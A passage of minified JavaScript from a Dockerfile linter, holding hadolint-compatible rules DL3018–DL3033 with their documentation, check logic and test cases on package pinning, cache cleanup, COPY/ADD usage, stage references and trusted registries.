+`,expect:[]}]},rd=zv;function Jv(n){return/[=~<>]/.test(n)||n.endsWith(".apk")}var Kv={id:"DL3018",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3018"},docs:{summary:"Pin versions in `apk add`.",why:"Unpinned packages make the image depend on the day it was built: a rebuild can pull a new major version and break. Pin `pkg=version` (or `pkg~version` for a version prefix).",bad:`FROM alpine:3.20
+RUN apk add --no-cache curl
+`,good:`FROM alpine:3.20
+RUN apk add --no-cache curl=8.9.1-r2
+`},check({model:n,report:e}){for(let t of F(n))for(let s of t.commands){if(s.name!=="apk")continue;let i=T(s,cr);if(i[0]?.value!=="add")continue;let r=i.slice(1).filter(o=>!o.dynamic&&!Jv(o.value));r.length&&e({message:`Pin versions in apk add: ${r.map(o=>o.value).slice(0,5).join(", ")}${r.length>5?`, \u2026 (${r.length})`:""}. Instead of \`apk add <package>\` use \`apk add <package>=<version>\``,range:r[0].range})}},tests:[{name:"unpinned",input:`FROM alpine
+RUN apk add --no-cache curl
+`,expect:[{line:2,col:24}]},{name:"pinned = and ~",input:`FROM alpine
+RUN apk add --no-cache curl=8.9.1-r2 "git~2.45"
+`,expect:[]},{name:"virtual package name is not a package",input:`FROM alpine
+RUN apk add --no-cache --virtual .build-deps gcc=13.2.1_git20240309-r0
+`,expect:[]},{name:"short -t virtual",input:`FROM alpine
+RUN apk add -t .deps make
+`,expect:[{line:2,message:"make"}]},{name:"repository value",input:`FROM alpine
+RUN apk add -X https://dl-cdn.alpinelinux.org/alpine/edge/testing foo=1.0-r0
+`,expect:[]},{name:"variables",input:`FROM alpine
+RUN apk add --no-cache $DEPS
+`,expect:[]},{name:"other subcommands",input:`FROM alpine
+RUN apk update && apk del .build-deps && apk info
+`,expect:[]}]},od=Kv;var Xv={id:"DL3019",language:"dockerfile",severity:"info",compat:{hadolint:"DL3019"},docs:{summary:"Use `apk add --no-cache`.",why:"Without `--no-cache`, apk stores the package index in `/var/cache/apk` and it stays in the layer. `--no-cache` fetches the index on the fly, so there is no need for `apk update` or removing the cache afterwards. A cache mount on `/var/cache/apk` is fine too.",bad:`FROM alpine:3.20
+RUN apk update && apk add curl=8.9.1-r2
+`,good:`FROM alpine:3.20
+RUN apk add --no-cache curl=8.9.1-r2
+`},check({model:n,report:e}){for(let t of F(n))if(!(ye(n,t.ins,"/var/cache/apk")||ye(n,t.ins,"/etc/apk/cache")))for(let s of t.commands){if(s.name!=="apk")continue;let i=T(s,cr)[0];i?.value!=="add"||We(s,[],["no-cache","no-network"])||e({message:"Use the `--no-cache` switch to avoid the need to use `--update` and remove `/var/cache/apk/*` when done installing packages",range:i.range,fixes:[{title:"Add `--no-cache`",edits:[oe(i,"--no-cache")],preferred:!0}]})}},tests:[{name:"missing",input:`FROM alpine
+RUN apk add curl
+`,expect:[{line:2,col:9}],fixed:`FROM alpine
+RUN apk add --no-cache curl
+`},{name:"with --update",input:`FROM alpine
+RUN apk --update add curl
+`,expect:[{line:2}],fixed:`FROM alpine
+RUN apk --update add --no-cache curl
+`},{name:"present",input:`FROM alpine
+RUN apk add --no-cache curl
+`,expect:[]},{name:"present before the subcommand",input:`FROM alpine
+RUN apk --no-cache add curl
+`,expect:[]},{name:"cache mount",input:`FROM alpine
+RUN --mount=type=cache,target=/var/cache/apk apk add curl
+`,expect:[]},{name:"apk add --no-network",input:`FROM alpine
+RUN apk add --no-network --virtual .rundeps so:libz.so.1
+`,expect:[]},{name:"through xargs",input:`FROM alpine
+RUN echo curl | xargs -rt apk add
+`,expect:[{line:2,col:31}]},{name:"apk del",input:`FROM alpine
+RUN apk del curl
+`,expect:[]}]},ad=Xv;var Zv=/\.(tar|tar\.(gz|bz2|xz|zst|lz|lzma|Z)|tgz|tbz2?|tb2|txz|tlz|tpz|tZ|gz|bz2|xz|lz|lzma|Z)$/i,Qv=/^(https?|git|ssh):\/\/|^git@|\.git(#.*)?$/i,ek=new Set(["checksum","keep-git-dir","unpack"]),tk={id:"DL3020",language:"dockerfile",severity:"error",compat:{hadolint:"DL3020"},docs:{summary:"Use COPY instead of ADD for files and folders.",why:"ADD also downloads URLs and unpacks tar archives, so `ADD app.tar.gz /app` does something different from what it looks like. COPY does only what it says. ADD stays right for URLs, git repositories and archives you want extracted.",bad:`FROM python:3.12-slim
+ADD requirements.txt /app/
+`,good:`FROM python:3.12-slim
+COPY requirements.txt /app/
+`},check({model:n,report:e}){for(let t of n.instructions){if(t.keyword!=="ADD")continue;let s=bn(n,t);if(!s||s.values.length<2||s.values.slice(0,-1).some(c=>c.includes("$")||Qv.test(c)||Zv.test(c)))continue;let o=!t.node.getFlags().some(c=>ek.has(c.getName().toLowerCase())),a=t.written===t.written.toLowerCase()?"copy":t.written==="Add"?"Copy":"COPY";e({message:"Use COPY instead of ADD for files and folders",range:t.keywordRange,fixes:o?[{title:"Use COPY",edits:[{range:t.keywordRange,newText:a}],preferred:!0}]:void 0})}},tests:[{name:"local file",input:`FROM debian
+ADD app.py /app/
+`,expect:[{line:2,col:1}],fixed:`FROM debian
+COPY app.py /app/
+`},{name:"lower-case keyword keeps its case",input:`FROM debian
+add --chown=app app /app
+`,expect:[{line:2}],fixed:`FROM debian
+copy --chown=app app /app
+`},{name:"JSON form",input:`FROM debian
+ADD ["a b.txt", "/app/"]
+`,expect:[{line:2}],fixed:`FROM debian
+COPY ["a b.txt", "/app/"]
+`},{name:"URL",input:`FROM debian
+ADD https://example.com/x.tgz /tmp/
+`,expect:[]},{name:"git repository",input:`FROM debian
+ADD git@github.com:moby/buildkit.git /src
+ADD https://github.com/moby/buildkit.git#v0.14.1 /bk
+`,expect:[]},{name:"archive to extract",input:`FROM debian
+ADD rootfs.tar.xz /
+ADD app.tgz /app
+`,expect:[]},{name:"zip is not extracted",input:`FROM debian
+ADD app.zip /app/
+`,expect:[{line:2}]},{name:"variable source",input:`FROM debian
+ARG SRC
+ADD \${SRC} /app/
+`,expect:[]},{name:"COPY",input:`FROM debian
+COPY app.py /app/
+`,expect:[]}]},cd=tk;var nk={id:"DL3021",language:"dockerfile",severity:"error",compat:{hadolint:"DL3021"},docs:{summary:"COPY with more than 2 arguments requires the last argument to end with `/`.",why:'With several sources the destination must be a directory; Docker rejects the build ("When using COPY with more than one source file, the destination must be a directory and end with a /").',bad:`FROM node:20-slim
+COPY package.json package-lock.json /app
+`,good:`FROM node:20-slim
+COPY package.json package-lock.json /app/
+`},check({model:n,report:e}){for(let t of n.instructions){if(t.keyword!=="COPY")continue;let s=bn(n,t);if(!s||s.values.length<=2)continue;let i=s.values[s.values.length-1],r=s.ranges[s.ranges.length-1];if(i.endsWith("/")||i.includes("$"))continue;let a=n.textOf(r).startsWith('"')?{line:r.end.line,character:r.end.character-1}:r.end;e({message:"COPY with more than 2 arguments requires the last argument to end with /",range:r,fixes:[{title:"Add a trailing /",edits:[{range:{start:a,end:a},newText:"/"}],preferred:!0}]})}},tests:[{name:"missing slash",input:`FROM node
+COPY a b /app
+`,expect:[{line:2,col:10}],fixed:`FROM node
+COPY a b /app/
+`},{name:"JSON form",input:`FROM node
+COPY ["a", "b", "/app"]
+`,expect:[{line:2}],fixed:`FROM node
+COPY ["a", "b", "/app/"]
+`},{name:"with --from flag",input:`FROM node AS b
+FROM node
+COPY --from=b /a /b .
+`,expect:[{line:3}],fixed:`FROM node AS b
+FROM node
+COPY --from=b /a /b ./
+`},{name:"present",input:`FROM node
+COPY a b /app/
+`,expect:[]},{name:"two arguments",input:`FROM node
+COPY . /app
+`,expect:[]},{name:"variable destination",input:`FROM node
+COPY a b $DEST
+`,expect:[]}]},ld=nk;var ls=["ADD","ARG","CMD","COPY","ENTRYPOINT","ENV","EXPOSE","FROM","HEALTHCHECK","LABEL","MAINTAINER","ONBUILD","RUN","SHELL","STOPSIGNAL","USER","VOLUME","WORKDIR"],sk=new Set(ls);function Ve(n){return sk.has(n.toUpperCase())}var wn={FROM:{platform:"string"},RUN:{mount:"strings",network:"string",security:"string",device:"strings"},COPY:{from:"string",chown:"string",chmod:"string",link:"bool",parents:"bool",exclude:"strings"},ADD:{chown:"string",chmod:"string",link:"bool",checksum:"string","keep-git-dir":"bool",unpack:"bool",exclude:"strings"},HEALTHCHECK:{interval:"string",timeout:"string","start-period":"string","start-interval":"string",retries:"string"}},Xc={RUN:new Set(["device"])},pd=new Set(["ARG","STOPSIGNAL"]),dd=["default","none","host"],fd=["sandbox","insecure"];function Pt(n){return n===" "||n==="	"||n==="\v"||n==="\f"||n==="\xA0"}function Kc(n){return n===`
+`||n==="\r"}function ik(n,e){let t=n.text,s=n.escape,i=n.lines.offsetAt(e.keywordRange.end),r=Math.max(i,n.lines.offsetAt(e.range.end)),o="",a=[];for(;i<r;){let l=t[i];if(Kc(l)){let u=o.length-1;for(;u>=0&&(o[u]===" "||o[u]==="	");)u--;if(u<0||o[u]!==s)break;for(o=o.slice(0,u),a.length=u,i+=l==="\r"&&t[i+1]===`
+`?2:1;;){let p=i;for(;p<r&&Pt(t[p]);)p++;if(p<r&&(Kc(t[p])||t[p]==="#")){for(;p<r&&!Kc(t[p]);)p++;if(p>=r){i=p;break}i=p+(t[p]==="\r"&&t[p+1]===`
+`?2:1);continue}break}continue}o+=l,a.push(i),i++}let c=o.length-1;for(;c>=0&&(o[c]===" "||o[c]==="	");)c--;return c>=0&&o[c]===s&&i>=t.length&&(o=o.slice(0,c),i=a[c],a.length=c),a.push(i),{text:o,map:a}}function rk(n,e){let t=[],s=e;for(;;){for(;s<n.length&&Pt(n[s]);)s++;if(s>=n.length||n[s]!=="-"||n[s+1]!=="-")return{flags:t,restStart:s};let i=s,r="",o="",a=-1;for(;s<n.length;){let u=n[s];if(o){u===o?o="":u==="\\"&&s+1<n.length?r+=n[++s]:r+=u,s++;continue}if(Pt(u))break;u==="'"||u==='"'?o=u:u==="\\"&&s+1<n.length?r+=n[++s]:(u==="="&&a<0&&(a=s),r+=u),s++}if(r==="--")return{flags:t,restStart:s};let c=r.slice(2),l=c.indexOf("=");t.push({name:l>=0?c.slice(0,l):c,value:l>=0?c.slice(l+1):void 0,start:i,end:s,nameEnd:a>=0?a:s})}}function ok(n,e,t){let s=[],i=e;for(;i<n.length;){for(;i<n.length&&Pt(n[i]);)i++;if(i>=n.length)break;let r=i,o="";for(;i<n.length;){let a=n[i];if(o){a===o?o="":a===t&&o!=="'"&&i+1<n.length&&i++,i++;continue}if(Pt(a))break;a==="'"||a==='"'?o=a:a===t&&i+1<n.length&&i++,i++}s.push({raw:n.slice(r,i),start:r,end:i})}return s}function B(n,e){return n.memoize(`syntax:ins:${e.index}`,()=>{let t=ik(n,e),{flags:s,restStart:i}=rk(t.text,0),r=ok(t.text,i,n.escape),o=!0;for(let a=1;a<t.map.length;a++)if(t.map[a]!==t.map[a-1]+1){o=!1;break}return{line:t,flags:s,restStart:i,rest:t.text.slice(i).trim(),words:r,contiguous:o}})}function j(n,e,t,s){let i=e.map[Math.min(t,e.map.length-1)],r=s>t?e.map[Math.min(s-1,e.map.length-1)]+1:i;return n.lines.range(i,r)}function gd(n){return el(n).some(e=>e.name==="syntax"&&/labs/i.test(e.value))}function ud(n,e){let t=e;for(;t<n.length&&Pt(n[t]);)t++;let s=n.length;for(;s>t&&Pt(n[s-1]);)s--;if(n[t]!=="[")return{kind:"shell"};let i=n.slice(t,s),r;try{r=JSON.parse(i)}catch(c){return{kind:"invalid",start:t,end:s,error:c.message}}if(!Array.isArray(r))return{kind:"invalid",start:t,end:s,error:"not an array"};if(!r.every(c=>typeof c=="string"))return{kind:"notStrings",start:t,end:s};let o=[],a=t+1;for(;a<s;){if(n[a]==='"'){let l=a;for(a++;a<s&&n[a]!=='"';)a+=n[a]==="\\"?2:1;a++,o.push({value:JSON.parse(n.slice(l,a)),start:l,end:a});continue}a++}return{kind:"json",elements:o,start:t,end:s}}function Ne(n,e){return n.memoize(`syntax:exec:${e.index}`,()=>{let t=B(n,e);if(e.keyword==="HEALTHCHECK"){let s=t.words[0];return!s||s.raw.toUpperCase()!=="CMD"?{kind:"shell"}:ud(t.line.text,s.end)}return ud(t.line.text,t.restStart)})}var Zc=new Set(["syntax","escape","check"]),ak=/^(\s*#\s*)([a-zA-Z][a-zA-Z0-9]*)(\s*=\s*)(.+?)\s*$/;function Qc(n){let e=ak.exec(n);if(e)return{name:e[2].toLowerCase(),value:e[4],valueStart:e[1].length+e[2].length+e[3].length}}function el(n){return n.memoize("syntax:directives",()=>{let e=[];for(let t=0;t<n.lines.lineCount;t++){let s=n.lines.lineText(t),i=0;t===0&&s.charCodeAt(0)===65279&&(s=s.slice(1),i=1);let r=Qc(s);if(!r||!Zc.has(r.name))break;e.push({name:r.name,value:r.value,line:t,valueStart:r.valueStart+i,valueEnd:r.valueStart+i+r.value.length})}return e})}var ck={ns:1,us:1e3,\u00B5s:1e3,\u03BCs:1e3,ms:1e6,s:1e9,m:6e10,h:36e11};function md(n){let e=n,t=1;if((e.startsWith("-")||e.startsWith("+"))&&(e[0]==="-"&&(t=-1),e=e.slice(1)),e==="0")return{ns:0};if(e==="")return{error:`invalid duration "${n}"`};let s=0;for(;e;){let i=/^(\d*)(?:\.(\d*))?/.exec(e);if(!i[0]||i[0]==="."||i[1]===""&&(i[2]??"")==="")return{error:`invalid duration "${n}"`};e=e.slice(i[0].length);let r=/^[^\d.]+/.exec(e);if(!r)return{error:`missing unit in duration "${n}"`};let o=r[0],a=ck[o];if(a===void 0)return{error:`unknown unit "${o}" in duration "${n}"`};e=e.slice(o.length),s+=+`${i[1]||"0"}.${i[2]||"0"}`*a}return{ns:t*s}}function lk(n,e){let t=n.length,s=e.length,i=Array.from({length:s+1},(o,a)=>a),r=i;for(let o=1;o<=t;o++){let a=[o];for(let c=1;c<=s;c++)a[c]=Math.min(i[c]+1,a[c-1]+1,i[c-1]+(n[o-1]===e[c-1]?0:1)),o>1&&c>1&&n[o-1]===e[c-2]&&n[o-2]===e[c-1]&&(a[c]=Math.min(a[c],r[c-2]+1));r=i,i=a}return i[s]}function be(n,e){let t=n.toLowerCase(),s=t.length<=3?1:t.length<=6?2:3,i,r=1/0,o=!1;for(let a of e){let c=lk(t,a.toLowerCase());c<r?(i=a,r=c,o=!1):c===r&&(o=!0)}return i!==void 0&&r<=s&&!o?i:void 0}function vn(n){let e=[],t=0;for(;t<n.length;){for(;t<n.length&&/\s/.test(n[t]);)t++;if(t>=n.length)break;let s="";for(;t<n.length&&!/\s/.test(n[t]);){let i=n[t];if(i==="'"){let r=n.indexOf("'",t+1);if(r<0)return;s+=n.slice(t+1,r),t=r+1}else if(i==='"'){let r=n.indexOf('"',t+1);if(r<0)return;let o=n.slice(t+1,r);if(/[$`\\]/.test(o))return;s+=o,t=r+1}else{if(/[$`\\&|;<>()*?[\]{}~#!]/.test(i))return;s+=i,t++}}e.push(s)}if(!(e.length&&/^[A-Za-z_][A-Za-z0-9_]*=/.test(e[0])))return e.length?e:void 0}function dr(n){return"["+n.map(e=>JSON.stringify(e)).join(", ")+"]"}function uk(n){return/[:/@]/.test(n)}var pk={id:"DL3022",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3022"},docs:{summary:"`COPY --from` should reference a stage defined earlier (by name or index).",why:"A name that is no stage is pulled as an image from Docker Hub: a typo in `--from=biulder` turns into a confusing pull error, or silently copies from an unrelated public image. Referencing a later stage works only with BuildKit and makes the build order hard to follow.",bad:`FROM golang:1.22 AS builder
+RUN go build -o /app .
+FROM gcr.io/distroless/base
+COPY --from=biulder /app /app
+`,good:`FROM golang:1.22 AS builder
+RUN go build -o /app .
+FROM gcr.io/distroless/base
+COPY --from=builder /app /app
+`},check({model:n,report:e}){for(let t of n.instructions){if(t.keyword!=="COPY"||!t.stage)continue;let s=B(n,t),i=s.flags.find(d=>d.name==="from"),r=i?.value;if(!i||!r||r.includes("$"))continue;let o=t.stage.index,a=j(n,s.line,i.nameEnd+1,i.end);if(/^\d+$/.test(r)){let d=Number(r);d>=n.stages.length?e({message:`COPY --from=${r}: there is no stage with index ${r} (stages are numbered from 0)`,range:a,severity:"error"}):d>o&&e({message:`COPY --from=${r} references a later stage; define stages before they are copied from`,range:a});continue}let c=n.stages.find(d=>d.name?.toLowerCase()===r.toLowerCase());if(c){c.index>o&&e({message:`COPY --from=${r} references a later stage; define stages before they are copied from`,range:a});continue}if(uk(r))continue;let l=n.stages.filter(d=>d.index<o&&d.name).map(d=>d.name),u=be(r,l),p=u?[{title:`Change to ${u}`,preferred:!0,edits:[{range:a,newText:u}]}]:void 0;e({message:`COPY --from=${r}: no earlier stage is named "${r}"${u?` (did you mean ${u}?)`:""}, so it is pulled as an image`,range:a,fixes:p})}},tests:[{name:"typo in stage name",input:`FROM golang AS builder
+FROM alpine
+COPY --from=biulder /app /app
+`,expect:[{line:3,col:13,message:"did you mean builder?"}],fixed:`FROM golang AS builder
+FROM alpine
+COPY --from=builder /app /app
+`},{name:"plain name that is not a stage",input:`FROM alpine
+COPY --from=busybox /bin/busybox /bin/
+`,expect:[{line:2,message:"pulled as an image"}]},{name:"later stage",input:`FROM alpine
+COPY --from=late /a /a
+FROM alpine AS late
+`,expect:[{line:2,message:"later stage"}]},{name:"index out of range",input:`FROM alpine
+FROM alpine
+COPY --from=5 /a /a
+`,expect:[{line:3,severity:"error"}]},{name:"later index",input:`FROM alpine
+COPY --from=1 /a /a
+FROM alpine
+`,expect:[{line:2,message:"later"}]},{name:"valid references",input:`FROM golang AS Builder
+FROM alpine
+COPY --from=builder /a /a
+COPY --from=0 /a /a
+COPY --from=nginx:latest /etc/nginx /etc/nginx
+COPY --from=docker.io/library/busybox /bin/busybox /bin/
+COPY --from=gcr.io/distroless/base@sha256:abc /x /x
+ARG S=builder
+COPY --from=$S /a /a
+`,expect:[]},{name:"ONBUILD is for the child build",input:`FROM alpine
+ONBUILD COPY --from=assets /a /a
+`,expect:[]}]},hd=pk;var dk={id:"DL3023",language:"dockerfile",severity:"error",compat:{hadolint:"DL3023"},docs:{summary:"`COPY --from` cannot reference the stage it is in.",why:"A stage cannot copy from itself: the builder fails with a circular dependency. Copy from an earlier stage, or copy without --from.",bad:`FROM node:22 AS build
+RUN npm ci
+COPY --from=build /app/dist /srv
+`,good:`FROM node:22 AS build
+RUN npm ci
+RUN cp -r /app/dist /srv
+`},check({model:n,report:e}){for(let t of n.instructions){if(t.keyword!=="COPY"||!t.stage)continue;let s=B(n,t),i=s.flags.find(a=>a.name==="from"),r=i?.value;if(!i||!r||r.includes("$"))continue;(/^\d+$/.test(r)?Number(r)===t.stage.index:t.stage.name?.toLowerCase()===r.toLowerCase())&&e({message:`COPY --from=${r} references its own stage`,range:j(n,s.line,i.nameEnd+1,i.end)})}},tests:[{name:"own stage by name",input:`FROM alpine AS a
+COPY --from=a /x /y
+`,expect:[{line:2,col:13}]},{name:"own stage by index",input:`FROM alpine
+FROM alpine
+COPY --from=1 /x /y
+`,expect:[{line:3}]},{name:"own stage other case",input:`FROM alpine AS Build
+COPY --from=build /x /y
+`,expect:[{line:2}]},{name:"earlier stage",input:`FROM alpine AS a
+FROM alpine AS b
+COPY --from=a /x /y
+COPY --from=0 /x /y
+`,expect:[]}]},yd=dk;var fk=["docker.io","hub.docker.com","index.docker.io","registry-1.docker.io"];function gk(n,e){let t=n==="docker.io"?fk:[n.toLowerCase()];return e.some(s=>{let i=s.toLowerCase();return i==="*"?!0:i.startsWith("*.")?t.some(r=>r.endsWith(i.slice(1))):t.includes(i)})}var mk={id:"DL3026",language:"dockerfile",severity:"error",compat:{hadolint:"DL3026"},docs:{summary:"Use only an allowed registry in the FROM image (when `trustedRegistries` is configured).",why:"Organisations often only trust base images from their own mirror or a vetted registry. With `trustedRegistries: [docker.io, ghcr.io]` (hadolint config or Slipway settings) any other registry is reported. Nothing is reported when the list is empty.",bad:`FROM quay.io/org/app:1.0
+`,good:`FROM docker.io/library/python:3.12-slim
+`,options:{trustedRegistries:["docker.io"]}},check({model:n,report:e,options:t}){let s=t.trustedRegistries;if(s.length)for(let i of gt(n,t.buildArgs)){if(i.resolved===void 0||i.stageRef||i.scratch)continue;let r=i.registry??"docker.io";gk(r,s)||e({message:`Use only an allowed registry in the FROM image (\`${r}\` is not in trustedRegistries)`,range:i.range})}},tests:[{name:"not configured: nothing",input:`FROM quay.io/org/app:1.0
+`,expect:[]},{name:"untrusted registry",input:`FROM quay.io/org/app:1.0
+`,options:{trustedRegistries:["docker.io"]},expect:[{line:1,col:6,message:"quay.io"}]},{name:"Docker Hub implied",input:`FROM python:3.12
+`,options:{trustedRegistries:["docker.io"]},expect:[]},{name:"Docker Hub not trusted",input:`FROM python:3.12
+`,options:{trustedRegistries:["ghcr.io"]},expect:[{line:1}]},{name:"wildcard",input:`FROM eu.gcr.io/p/app:1
+`,options:{trustedRegistries:["*.gcr.io"]},expect:[]},{name:"stages and scratch",input:`FROM ghcr.io/o/a:1 AS a
+FROM a
+FROM scratch
+`,options:{trustedRegistries:["ghcr.io"]},expect:[]},{name:"registry from an ARG",input:`ARG REG=quay.io
+FROM \${REG}/o/a:1
+`,options:{trustedRegistries:["docker.io"]},expect:[{line:2}]}]},bd=mk;var hk=new Set(["install","remove","purge","update","upgrade","dist-upgrade","autoremove","autopurge","clean","autoclean","source","build-dep","download","changelog","satisfy","check"]),yk=new Set(["search","show","showsrc","policy","depends","rdepends"]),bk={id:"DL3027",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3027"},docs:{summary:"Do not use `apt`; use `apt-get` or `apt-cache` in scripts.",why:'`apt` is meant for people at a terminal: its output and behaviour may change between releases and it warns "apt does not have a stable CLI interface". `apt-get` and `apt-cache` are the stable interfaces for scripts.',bad:`FROM debian:bookworm
+RUN apt update && apt install -y curl
+`,good:`FROM debian:bookworm
+RUN apt-get update && apt-get install -y curl
+`},check({model:n,report:e}){for(let t of F(n))for(let s of t.commands){if(s.name!=="apt"||s.nameWord.quoted)continue;let i=or(s,zc)?.value??"",r=hk.has(i)?"apt-get":yk.has(i)?"apt-cache":void 0,o=s.nameWord,a=o.value.slice(0,o.value.length-$t(o.value).length);e({message:"Do not use apt as it is meant to be an end-user tool, use apt-get or apt-cache instead",range:o.range,fixes:r?[{title:`Use ${r}`,edits:[{range:o.range,newText:a+r}],preferred:!0}]:void 0})}},tests:[{name:"apt install",input:`FROM debian
+RUN apt update && apt install -y curl
+`,expect:[{line:2,col:5},{line:2,col:19}],fixed:`FROM debian
+RUN apt-get update && apt-get install -y curl
+`},{name:"apt search uses apt-cache",input:`FROM debian
+RUN apt search curl
+`,expect:[{line:2}],fixed:`FROM debian
+RUN apt-cache search curl
+`},{name:"apt list has no stable equivalent: no fix",input:`FROM debian
+RUN apt list --installed
+`,expect:[{line:2}],fixed:`FROM debian
+RUN apt list --installed
+`},{name:"apt-get and apt-cache are fine",input:`FROM debian
+RUN apt-get update && apt-cache policy curl
+`,expect:[]},{name:"apt as an argument",input:`FROM debian
+RUN echo apt && ls /etc/apt
+`,expect:[]}]},wd=bk;var wk=new Set(["i","install-dir","n","bindir","s","source","platform","P","trust-policy","g","file","document","build-root"]),vk={id:"DL3028",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3028"},docs:{summary:"Pin versions in `gem install`.",why:"An unpinned gem installs the newest release at build time, so rebuilds are not reproducible and can break. Use `gem install <gem>:<version>` or `-v`.",bad:`FROM ruby:3.3
+RUN gem install bundler
+`,good:`FROM ruby:3.3
+RUN gem install bundler:2.5.10
+`},check({model:n,report:e}){for(let t of F(n))for(let s of t.commands){if(s.name!=="gem")continue;let i=T(s,wk);if(!i.length||i[0].value!=="install"&&i[0].value!=="i"||s.args.some(o=>o.value==="-v"||o.value==="--version"||o.value.startsWith("--version=")))continue;let r=i.slice(1).filter(o=>!o.dynamic&&!o.value.includes(":")&&!o.value.endsWith(".gem"));r.length&&e({message:`Pin versions in gem install: ${r.map(o=>o.value).join(", ")}. Instead of \`gem install <gem>\` use \`gem install <gem>:<version>\``,range:r[0].range})}},tests:[{name:"unpinned",input:`FROM ruby:3.3
+RUN gem install bundler
+`,expect:[{line:2,col:17}]},{name:"pinned with colon",input:`FROM ruby:3.3
+RUN gem install bundler:2.5.10 rake:13.2.1
+`,expect:[]},{name:"pinned with -v",input:`FROM ruby:3.3
+RUN gem install bundler -v 2.5.10 && gem install rails --version=7.1.3
+`,expect:[]},{name:"local gem file",input:`FROM ruby:3.3
+RUN gem install ./pkg/app-1.0.gem
+`,expect:[]},{name:"gem update",input:`FROM ruby:3.3
+RUN gem update --system
+`,expect:[]}]},vd=vk;var kk={id:"DL3029",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3029"},docs:{summary:"Do not use `--platform` with FROM (except `$BUILDPLATFORM`/`$TARGETPLATFORM`).",why:"A fixed platform in FROM makes the image build for that platform whatever `docker build --platform` asks for, so multi-platform builds quietly produce the wrong architecture. The cross-compilation idiom `FROM --platform=$BUILDPLATFORM` is intended and not reported (hadolint reports it too).",bad:`FROM --platform=linux/amd64 python:3.12-slim
+`,good:`FROM python:3.12-slim
+`},check({model:n,report:e}){for(let t of n.stages){let s=t.from.getPlatformFlag();if(!s)continue;let i=s.getValue()??"";i&&(/^\$\{?(BUILD|TARGET)PLATFORM\}?$/.test(i)||e({message:"Do not use --platform flag with FROM",range:s.getRange()}))}},tests:[{name:"constant platform",input:`FROM --platform=linux/amd64 debian:12
+`,expect:[{line:1,col:6}]},{name:"other ARG",input:`ARG P=linux/arm64
+FROM --platform=$P debian:12
+`,expect:[{line:2}]},{name:"BUILDPLATFORM idiom",input:`FROM --platform=$BUILDPLATFORM golang:1.22 AS build
+FROM --platform=\${TARGETPLATFORM} debian:12
+`,expect:[]},{name:"no flag",input:`FROM debian:12
+`,expect:[]}]},kd=kk;var xk={id:"DL3030",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3030"},docs:{summary:"Use the `-y` switch with `yum install`.",why:'A build has no terminal: yum asks "Is this ok [y/N]", reads end-of-file and aborts the install, failing the build.',bad:`FROM centos:7
+RUN yum install httpd-2.4.6 && yum clean all
+`,good:`FROM centos:7
+RUN yum install -y httpd-2.4.6 && yum clean all
+`},check({model:n,report:e}){for(let t of F(n))for(let s of t.commands){if(s.name!=="yum")continue;let i=T(s,Le)[0];!i||!["install","groupinstall","localinstall","reinstall"].includes(i.value)||We(s,["y"],["assumeyes"])||e({message:"Use the -y switch to avoid manual input `yum install -y <package>`",range:i.range,fixes:[{title:"Add `-y`",edits:[oe(i,"-y")],preferred:!0}]})}},tests:[{name:"missing",input:`FROM centos:7
+RUN yum install httpd
+`,expect:[{line:2,col:9}],fixed:`FROM centos:7
+RUN yum install -y httpd
+`},{name:"present",input:`FROM centos:7
+RUN yum -y install httpd && yum install --assumeyes git
+`,expect:[]},{name:"groupinstall",input:`FROM centos:7
+RUN yum groupinstall "Development Tools"
+`,expect:[{line:2}]},{name:"enablerepo value",input:`FROM centos:7
+RUN yum --enablerepo epel install -y jq
+`,expect:[]}]},xd=xk;var Rk={id:"DL3032",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3032"},docs:{summary:"`yum clean all` missing after `yum install`.",why:"yum keeps downloaded packages and metadata in `/var/cache/yum`; unless it is cleaned in the same RUN, that cache stays in the layer.",bad:`FROM centos:7
+RUN yum install -y httpd-2.4.6
+`,good:`FROM centos:7
+RUN yum install -y httpd-2.4.6 && yum clean all
+`},check({model:n,report:e}){for(let t of F(n)){let s=t.commands.find(o=>o.name==="yum"&&T(o,Le)[0]?.value==="install");if(!s||t.commands.some(o=>o.name==="yum"&&o.args.some((a,c)=>a.value==="clean"&&o.args[c+1]?.value==="all")||o.name==="rm"&&o.args.some(a=>/^\/var\/cache\/yum(\/\*?)?$/.test(a.value)))||ye(n,t.ins,"/var/cache/yum"))continue;let r=Ge(n,t,"yum clean all");e({message:"`yum clean all` missing after yum command",range:s.nameWord.range,fixes:r?[{title:"Append `yum clean all`",edits:[r],preferred:!0}]:void 0})}},tests:[{name:"missing",input:`FROM centos:7
+RUN yum install -y httpd
+`,expect:[{line:2,col:5}],fixed:`FROM centos:7
+RUN yum install -y httpd && yum clean all
+`},{name:"cleaned",input:`FROM centos:7
+RUN yum install -y httpd && yum clean all
+`,expect:[]},{name:"rm of the cache",input:`FROM centos:7
+RUN yum install -y httpd && rm -rf /var/cache/yum
+`,expect:[]},{name:"cache mount",input:`FROM centos:7
+RUN --mount=type=cache,target=/var/cache/yum yum install -y httpd
+`,expect:[]}]},Rd=Rk;var Ok={id:"DL3033",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3033"},docs:{summary:"Specify versions with `yum install -y <package>-<version>`.",why:"Unpinned packages make every build depend on what the repositories hold that day; a rebuild can silently upgrade and break the image.",bad:`FROM centos:7
+RUN yum install -y httpd && yum clean all
+`,good:`FROM centos:7
+RUN yum install -y httpd-2.4.6 && yum clean all
+`},check({model:n,report:e}){for(let t of F(n))for(let s of t.commands){if(s.name!=="yum")continue;let i=T(s,Le),r=i[0]?.value==="module";if((r?i[1]:i[0])?.value!=="install")continue;let c=i.slice(r?2:1).filter(yn).filter(l=>r?!l.value.includes(":"):!ur(l.value));c.length&&e({message:`Specify version with \`yum install -y <package>-<version>\`: ${c.map(l=>l.value).join(", ")}`,range:c[0].range})}},tests:[{name:"unpinned",input:`FROM centos:7
+RUN yum install -y httpd python3-pip
+`,expect:[{line:2,col:20,message:"httpd, python3-pip"}]},{name:"pinned",input:`FROM centos:7
+RUN yum install -y httpd-2.4.6 git-1.8.3.1-25.el7 ./local.rpm
+`,expect:[]},{name:"module with stream",input:`FROM centos:8
+RUN yum module install -y nodejs:20
+`,expect:[]},{name:"module without stream",input:`FROM centos:8
+RUN yum module install -y nodejs
+`,expect:[{line:2}]},{name:"provides and variables",input:`FROM centos:7
